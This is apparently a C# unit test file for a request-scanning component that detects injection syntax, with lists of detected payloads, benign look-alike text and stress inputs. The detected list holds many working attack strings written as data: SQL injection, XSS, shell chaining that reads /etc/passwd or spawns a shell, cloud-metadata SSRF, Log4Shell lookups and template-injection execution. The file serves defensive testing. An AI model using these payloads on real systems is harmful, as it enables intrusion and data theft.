using Gateway.Scoring.Content;

namespace Gateway.Scoring.Tests.Content;

/// <summary>The scanner sees decoded, lowercased field text; these cases are written that way.</summary>
public sealed class SyntaxScannerTests
{
    public static TheoryData<string, int> Detected() => new()
    {
        { "1' or '1'='1", HandcraftedFeature.SqlQuoteLogic },
        { "l'or 1=1", HandcraftedFeature.SqlQuoteLogic },
        { "é'or'é'='é", HandcraftedFeature.SqlQuoteLogic },
        { "x') or ('a'='a", HandcraftedFeature.SqlQuoteLogic },
        { "admin'||'", HandcraftedFeature.SqlQuoteLogic },
        { "'/**/and/**/1=1", HandcraftedFeature.SqlQuoteLogic },
        { "1 or 1=1", HandcraftedFeature.SqlValueLogic },
        { "-5) union select 1", HandcraftedFeature.SqlValueLogic },
        { "x' or 1=1--", HandcraftedFeature.SqlComparison },
        { "a\" or \"x\"=\"x", HandcraftedFeature.SqlComparison },
        { "1 and ascii(substring(user(),1,1))>64", HandcraftedFeature.SqlComparison },
        { "' or name like 'a%", HandcraftedFeature.SqlComparison },
        { "1 union select null,null", HandcraftedFeature.SqlSelectClause },
        { "1 union all select 2", HandcraftedFeature.SqlSelectClause },
        { "1/**/union/**/distinct/**/select/**/2", HandcraftedFeature.SqlSelectClause },
        { "1 and (select 1 from dual)", HandcraftedFeature.SqlSelectClause },
        { "1 and sleep(5)", HandcraftedFeature.SqlFunctionCall },
        { "'||pg_sleep(10)--", HandcraftedFeature.SqlFunctionCall },
        { "1;waitfor delay '0:0:5'", HandcraftedFeature.SqlFunctionCall },
        { "extractvalue/**/(1,concat(0x7e,version()))", HandcraftedFeature.SqlFunctionCall },
        { "admin'--", HandcraftedFeature.SqlQuoteTerminator },
        { "x') #", HandcraftedFeature.SqlQuoteTerminator },
        { "1'; drop table users", HandcraftedFeature.SqlQuoteTerminator },
        { "1; drop table users", HandcraftedFeature.SqlStacked },
        { "x';/**/exec xp_cmdshell 'dir'", HandcraftedFeature.SqlStacked },
        { "<b>hi</b>", HandcraftedFeature.HtmlTag },
        { "<script>alert(1)</script>", HandcraftedFeature.ScriptTag },
        { "\"><svg/onload=alert(1)>", HandcraftedFeature.ScriptTag },
        { "<img src=x onerror=alert(1)>", HandcraftedFeature.EventHandler },
        { "\" onmouseover = \"x", HandcraftedFeature.EventHandler },
        { "<svg/onload/=alert(1)>", HandcraftedFeature.EventHandler },
        { "javascript:alert(1)", HandcraftedFeature.ScriptScheme },
        { "java\tscript:alert(1)", HandcraftedFeature.ScriptScheme },
        { "data:text/html;base64,pd94", HandcraftedFeature.ScriptScheme },
        { "alert`1`", HandcraftedFeature.CodeCall },
        { "x=document.cookie", HandcraftedFeature.CodeCall },
        { "&#106;avascript:", HandcraftedFeature.HtmlEntity },
        { "127.0.0.1; cat /etc/passwd", HandcraftedFeature.ShellChain },
        { "a|id", HandcraftedFeature.ShellChain },
        { "x && /bin/sh -i", HandcraftedFeature.ShellChain },
        { "`uname -a`", HandcraftedFeature.ShellChain },
        { "$(curl x)", HandcraftedFeature.ShellChain },
        { "a\nwhoami", HandcraftedFeature.ShellChain },
        { "cat${ifs}/etc/passwd", HandcraftedFeature.ShellChain },
        { "../../etc/passwd", HandcraftedFeature.SensitivePath },
        { "..\\..\\windows\\win.ini", HandcraftedFeature.SensitivePath },
        { "/.env", HandcraftedFeature.SensitivePath },
        { "file:///etc/hosts", HandcraftedFeature.DangerousScheme },
        { "php://filter/resource=index.php", HandcraftedFeature.DangerousScheme },
        { "gopher://127.0.0.1:6379/_info", HandcraftedFeature.DangerousScheme },
        { "http://127.0.0.1:8080/admin", HandcraftedFeature.InternalUrl },
        { "http://localhost/server-status", HandcraftedFeature.InternalUrl },
        { "http://169.254.169.254/latest/meta-data/", HandcraftedFeature.InternalUrl },
        { "http://2130706433/", HandcraftedFeature.InternalUrl },
        { "http://0x7f000001/", HandcraftedFeature.InternalUrl },
        { "http://0177.0.0.1/", HandcraftedFeature.InternalUrl },
        { "http://127.1/", HandcraftedFeature.InternalUrl },
        { "http://[::1]:22/", HandcraftedFeature.InternalUrl },
        { "http://example.com@10.1.2.3/", HandcraftedFeature.InternalUrl },
        { "https://metadata.google.internal/computemetadata/v1/", HandcraftedFeature.InternalUrl },
        { "http://100.100.100.200/latest/meta-data/", HandcraftedFeature.InternalUrl },
        { "{{7*7}}", HandcraftedFeature.TemplateExpression },
        { "{% for x in y %}", HandcraftedFeature.TemplateExpression },
        { "<%= 7*7 %>", HandcraftedFeature.TemplateExpression },
        { "#{7*7}", HandcraftedFeature.TemplateExpression },
        { "${jndi:ldap://x.example/a}", HandcraftedFeature.LookupExpression },
        { "${${::-j}ndi:rmi://x/a}", HandcraftedFeature.LookupExpression },
        { "${${lower:j}ndi:x}", HandcraftedFeature.LookupExpression },
        { "username[$ne]", HandcraftedFeature.QueryOperator },
        { "{\"$where\":\"sleep(100)\"}", HandcraftedFeature.QueryOperator },
        { "en\r\nset-cookie: a=b", HandcraftedFeature.HeaderInjection },
        { "/\nlocation:http://x", HandcraftedFeature.HeaderInjection },
        { "x\r\n\r\nhttp/1.1 200 ok", HandcraftedFeature.HeaderInjection },
        { "x\r\nx-injected: 1", HandcraftedFeature.HeaderInjection },
        { "<!doctype r [<!entity x system \"file:///etc/passwd\">]>", HandcraftedFeature.XmlEntity },
        { "\r\n\r\n<html>owned</html>", HandcraftedFeature.HeaderInjection },
        { "/\u560a\u560dset-cookie:x=1", HandcraftedFeature.HeaderInjection },
        { "/.svn/entries", HandcraftedFeature.SensitivePath },
        { "/static/.ds_store", HandcraftedFeature.SensitivePath },
        { "x\nip -4 addr", HandcraftedFeature.ShellChain },
        { "x\nifconfig", HandcraftedFeature.ShellChain },
        { "a; id", HandcraftedFeature.ShellChain },
        { "a | id;", HandcraftedFeature.ShellChain },
        { "a;sleep 5", HandcraftedFeature.ShellChain },
        { "x | ping -c 3 x.example", HandcraftedFeature.ShellChain },
        { "x | type c:\\windows\\win.ini", HandcraftedFeature.ShellChain },
        { "x;/bin/cat /etc/hosts", HandcraftedFeature.ShellChain },
        { "x&&echo $path", HandcraftedFeature.ShellChain },
        { "8.8.8.8|net user", HandcraftedFeature.ShellChain },
        { "<note> | id", HandcraftedFeature.ShellChain },
        { "x;base64 -d /tmp/p", HandcraftedFeature.ShellChain },
        { "&#x3c;script", HandcraftedFeature.HtmlEntity },
        { "1 order by 3--", HandcraftedFeature.SqlSelectClause },
        { "' && this.password.match(/.*/)//", HandcraftedFeature.CodeCall },
        { "1; while(true){}", HandcraftedFeature.CodeCall },
        { "<r xmlns:xi=\"http://www.w3.org/2001/xinclude\">", HandcraftedFeature.XmlEntity },
        { "user@example.org\r\nbcc: everyone@evil.example", HandcraftedFeature.HeaderInjection },
        { "hello\r\n\tbcc:x@evil.example", HandcraftedFeature.HeaderInjection },
        { "a@b.example\nreply-to: x@evil.example", HandcraftedFeature.HeaderInjection },
        { "/u/user1\r\n[info] login succeeded for user admin", HandcraftedFeature.HeaderInjection },
        { "bob\ninfo: user=admin action=grant_role", HandcraftedFeature.HeaderInjection },
        { "user1\n2026-11-21 10:00:00 payment captured", HandcraftedFeature.HeaderInjection },
        { "<string>\u010atransfer-encoding: chunked", HandcraftedFeature.HeaderInjection },
        { "{$smarty.version}", HandcraftedFeature.TemplateExpression },
        { "{php}echo `id`;{/php}", HandcraftedFeature.TemplateExpression },
        { "#set($x = $class.inspect(\"java.lang.string\"))", HandcraftedFeature.TemplateExpression },
        { "#foreach($i in [1..$out.available()])", HandcraftedFeature.TemplateExpression },
        { "@(1+58)", HandcraftedFeature.TemplateExpression },
        { "%{77*41}", HandcraftedFeature.TemplateExpression },
        { "%{(#_='multipart/form-data').(#dm=@ognl.ognlcontext@default_member_access)}", HandcraftedFeature.TemplateExpression },
        { "<#assign ex=\"freemarker.template.utility.execute\"?new()>", HandcraftedFeature.TemplateExpression },
        { "http:/redis:6379/console", HandcraftedFeature.InternalUrl },
        { "http://consul:8500/v1/agent/self", HandcraftedFeature.InternalUrl },
        { "@(system.diagnostics.process.start(\"cmd\"))", HandcraftedFeature.TemplateExpression },
        { "http:/10.0.0.1/metrics", HandcraftedFeature.InternalUrl },
        { "http:/localhost:8080/containers/json", HandcraftedFeature.InternalUrl },
        { "https:\\\\127.0.0.1/", HandcraftedFeature.InternalUrl },
        { "https://glkktnt3e5xt.oastify.com/ssrf", HandcraftedFeature.InternalUrl },
        { "nslookup ogl96f017t0v8zya3rc.dnslog.cn", HandcraftedFeature.InternalUrl },
        { "http://127.0.0.1.nip.io:9200/", HandcraftedFeature.InternalUrl },
        { "http://a9fea9fe.7f000001.rbndr.us:3306/", HandcraftedFeature.InternalUrl },
        { "http://0xd83ad6ce/", HandcraftedFeature.UrlConfusion },
        { "https://3627734734/login", HandcraftedFeature.UrlConfusion },
        { "http://0330.072.0326.0316/", HandcraftedFeature.UrlConfusion },
        { "alice\n\u2028[audit] password changed for root", HandcraftedFeature.HeaderInjection },
        { "x%\n0aset-cookie:x=y", HandcraftedFeature.HeaderInjection },
        { "hello%\n0abcc:x@evil.example", HandcraftedFeature.HeaderInjection },
        { "() { :; }; sleep 4", HandcraftedFeature.ShellChain },
        { "/img/() { _; } >_[$($())] { id; }", HandcraftedFeature.ShellChain },
        { "7-- -", HandcraftedFeature.SqlQuoteTerminator },
        { "rctoz'] | //text() | a['", HandcraftedFeature.SqlQuoteLogic },
        { "1] | //member[position()=1]/secret | x[1", HandcraftedFeature.SqlQuoteLogic },
        { "x') | //@* | a[('", HandcraftedFeature.SqlQuoteLogic },
        { "1 order by 3 desc--", HandcraftedFeature.SqlSelectClause },
        { "1 order by 10,2", HandcraftedFeature.SqlSelectClause },
        { "x' order by 3 limit 1", HandcraftedFeature.SqlSelectClause },
        { "27-- ", HandcraftedFeature.SqlQuoteTerminator },
        { "(case when (1=1) then created_at else price end)", HandcraftedFeature.SqlFunctionCall },
        { "self[`al`+`ert`](1)//", HandcraftedFeature.CodeCall },
        { "'-window['alert'](0)-'", HandcraftedFeature.CodeCall },
        { "x'});(alert)(1);({'", HandcraftedFeature.CodeCall },
        { "/dev/fd/0", HandcraftedFeature.SensitivePath },
        { "/meta-inf/manifest.mf", HandcraftedFeature.SensitivePath },
        { "\\proc\\self\\cmdline", HandcraftedFeature.SensitivePath },
    };

    [Theory]
    [MemberData(nameof(Detected))]
    public void Scan_InjectionSyntax_IsCounted(string text, int feature)
    {
        Assert.True(Scan(text)[feature] > 0, $"{HandcraftedFeature.Names[feature]} not counted in: {text}");
    }

    /// <summary>Ordinary text with the words and symbols injections use, but not in their positions.</summary>
    public static TheoryData<string> Ordinary() =>
    [
        "it's a great day", "select a plan", "black or white", "salt and pepper", "order by phone", "union station",
        "drop-down menu", "the \"best\" coffee", "o'reilly books", "5'11\" tall", "1 or 2 bedrooms", "kids 5 and up",
        "true or false quiz", "buy 2 get 1", "update my address", "where is my order", "a & b", "tom & jerry",
        "semi;colon", "confusing; the device is solid", "price < 20", "rated > 4 stars", "c# in depth", "wait -- what?",
        "cat food", "echo dot", "50% off", "https://www.example.com/account?tab=orders", "https://cdn.example.net/a.png",
        "/api/v1/products/42", "john.smith@example.com", "2024-03-15t10:30:00+02:00", "p@ssw0rd!", "hello\r\nthanks for the quick reply",
        "dear team,\r\n\r\nname: jane\r\nphone: 555", "{\"name\":\"tea\",\"price\":4.5}", "query getproduct($id: id!) { product(id: $id) { name } }",
        "name eq 'milk' and price lt 2.55", "<p>hello <strong>world</strong></p>", "user(s)", "if (possible) today",
        "see [the manual](https://help.example.com/) -- it's under setup", "<item><name>bottle and pen</name></item>",
        "coffee addict ☕ | dev @ acme | he/him", "home | more", "net | gross", "tips | net income", "shop | find a store", "tom & jerry | kids",
        "tips | cat food | type of dog", "a; find the nearest store", "r&d; sales", "fish & chips & more",
        "data:image/png;base64,ivborw0kggoaaaansuhe", "order by 07/07/2022 for christmas", "order by 5.30pm",
        "<p>tom&#160;&amp;&#160;jerry&#39;s &#8220;big&#8221; day</p>",
        "thanks for the help.\r\n\r\nfrom: jane doe\r\nto: support", "see the log below:\n[info] started", "hi\nthanks, bob",
        "call me @(555) 123-4567", "@(home)", "#setup(1)", "#1 (best)", "{$}", "https://8.8.8.8/dns-query", "http://1.1.1.1/",
        "https://example.com/webhooks/in", "网上error: 404", "http: / example", "about http:/ and https:/", "50%{", "100% {fun}", "+p>`u%{#)u+}\\\"^o", "%{}", "https://{host}/api",
        "function () { return 1; }", "() {}", "in case when it rains", "5 -- great product", "7-- thanks", "top[1]",
        "self-service", "see window[0]", "(alert) (1)", "dev/fd",
        "order by 2022-w14 for christmas delivery", "order by 20200820", "order by 14 december", "order by 3 for the price of 2",
        "l'oréal", "ca' d'oro", "d'orléans", "l'andalousie", "l'orø", "j'oрыба",
    ];

    [Theory]
    [MemberData(nameof(Ordinary))]
    public void Scan_OrdinaryText_CountsNoInjectionSyntax(string text)
    {
        var counts = Scan(text);
        int[] strong =
        [
            HandcraftedFeature.SqlComparison, HandcraftedFeature.SqlSelectClause, HandcraftedFeature.SqlFunctionCall,
            HandcraftedFeature.SqlQuoteTerminator, HandcraftedFeature.SqlStacked, HandcraftedFeature.ScriptTag,
            HandcraftedFeature.EventHandler, HandcraftedFeature.ScriptScheme, HandcraftedFeature.CodeCall,
            HandcraftedFeature.ShellChain, HandcraftedFeature.SensitivePath, HandcraftedFeature.DangerousScheme,
            HandcraftedFeature.InternalUrl, HandcraftedFeature.TemplateExpression, HandcraftedFeature.LookupExpression,
            HandcraftedFeature.QueryOperator, HandcraftedFeature.HeaderInjection, HandcraftedFeature.XmlEntity,
        ];
        foreach (var feature in strong)
        {
            Assert.True(counts[feature] == 0, $"{HandcraftedFeature.Names[feature]} counted in: {text}");
        }
    }

    [Fact]
    public void Scan_SeparatorRuns_CountOnce()
    {
        Assert.Equal(1, Scan("x || id")[HandcraftedFeature.ShellChain]);
        Assert.Equal(1, Scan("x && id")[HandcraftedFeature.ShellChain]);
        Assert.Equal(1, Scan("x\r\nset-cookie: a")[HandcraftedFeature.HeaderInjection]);
    }

    public static TheoryData<string> Hostile() =>
    [
        new string('\'', 10_000), string.Concat(Enumerable.Repeat("'/*", 3000)), string.Concat(Enumerable.Repeat("or ", 3000)),
        string.Concat(Enumerable.Repeat("http://", 2000)), string.Concat(Enumerable.Repeat("${", 5000)), new string('\n', 10_000),
        "' or (((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((", "/*", "'", "<", "$", "${", "or", "http://[",
        "http://" + new string('1', 300), "http://1.2.3.4.5.6", "http://0x" + new string('f', 40), "union /*", "x';",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Scan_HostileText_DoesNotThrowAndStaysBounded(string text)
    {
        var counts = Scan(text);
        Assert.All(counts, c => Assert.InRange(c, 0, 3 * text.Length + 3));
    }

    private static int[] Scan(string text)
    {
        var counts = new int[HandcraftedFeature.Count];
        SyntaxScanner.Scan(text, counts);
        return counts;
    }
}
